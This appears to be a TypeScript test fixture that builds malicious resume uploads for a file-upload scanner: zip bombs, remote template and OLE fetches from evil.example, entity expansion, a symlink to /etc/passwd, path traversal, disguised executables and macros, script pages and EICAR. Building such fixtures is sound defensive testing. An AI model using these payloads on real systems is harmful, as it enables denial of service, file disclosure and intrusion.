/** Resumes with false types or malicious content. */
import { deflateRawSync, constants as zlib } from 'node:zlib';
import { eicarTestFile } from '../fakes/clamd-server.ts';
import { buildDocxResume, buildPdfOfSize, type UploadFile } from '../fixtures/resume-factory.ts';
import { buildZip, type ZipEntry } from '../fixtures/zip-builder.ts';

const megabyte = 1024 * 1024;
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const docxWith = (...more: ZipEntry[]): UploadFile => buildDocxResume('cv.docx', more);
const related = (content: string) => docxWith({ name: 'word/_rels/settings.xml.rels', content });
const fetched = (type: string) =>
  `<Relationships><Relationship Id="a" Type="${relations}/${type}" Target="https://evil.example/a" TargetMode="External"/></Relationships>`;

/** So many megabytes of zeros as a part of an archive, without the memory for them. */
export function buildZipBombEntry(megabytes: number): ZipEntry {
  const piece = deflateRawSync(Buffer.alloc(megabyte), { level: 9, finishFlush: zlib.Z_FULL_FLUSH });
  const end = deflateRawSync(Buffer.alloc(0));
  const packed = Buffer.concat([...Array<Buffer>(megabytes).fill(piece), end]);
  return { name: 'word/media/image1.bmp', compressedBytes: packed, declaredSize: megabytes * megabyte };
}

/** By what they are; the last two only a scanner knows. */
export function buildMaliciousResumes(): Record<string, UploadFile> {
  const macroTypes = '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
  return {
    'a zip bomb of 0.9 GB': docxWith(buildZipBombEntry(900)),
    'a zip bomb whose directory lies about a part that is read': docxWith({
      name: '_rels/.rels',
      compressedBytes: buildZipBombEntry(40).compressedBytes,
      declaredSize: 100,
    }),
    'an archive of 501 parts': docxWith(...Array.from({ length: 499 }, (_, index) => ({ name: `word/${index}.xml` }))),
    'a document with macros': docxWith({ name: 'word/vbaProject.bin', content: 'macro' }),
    'a .docm under another name': {
      name: 'cv.docx',
      bytes: buildZip([{ name: '[Content_Types].xml', content: macroTypes }, { name: 'word/document.xml' }]),
    },
    'a template from elsewhere': related(fetched('attachedTemplate')),
    'an object from elsewhere': related(fetched('oleObject')),
    'entities that multiply': related(
      `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>${fetched('hyperlink').replace('"a"', '"&b;"')}`,
    ),
    'an archive with a symbolic link': docxWith({ name: 'word/a', content: '/etc/passwd', symbolicLink: true }),
    'an archive with a part that leads out': docxWith({ name: '../../evil.txt', content: 'x' }),
    'an encrypted archive': docxWith({ name: 'word/a', content: 'x', encrypted: true }),
    'a program that ends as an archive': { name: 'cv.docx', bytes: Buffer.concat([Buffer.from('MZ'), docxWith().bytes]) },
    'a program named .pdf': {
      name: 'cv.pdf',
      bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2000), buildPdfOfSize(300)]),
    },
    'a page named .pdf': { name: 'cv.pdf', bytes: Buffer.from('<html><script>alert(1)</script></html>') },
    'text with a NUL': { name: 'cv.txt', bytes: Buffer.from('Asha\0Rao') },
    'a page under its own name': { name: 'cv.html', bytes: Buffer.from('<script>alert(1)</script>') },
    'EICAR as text': { name: 'cv.txt', bytes: Buffer.from(eicarTestFile) },
    'EICAR in a document': docxWith({ name: 'word/a.txt', content: eicarTestFile, uncompressed: true }),
  };
}
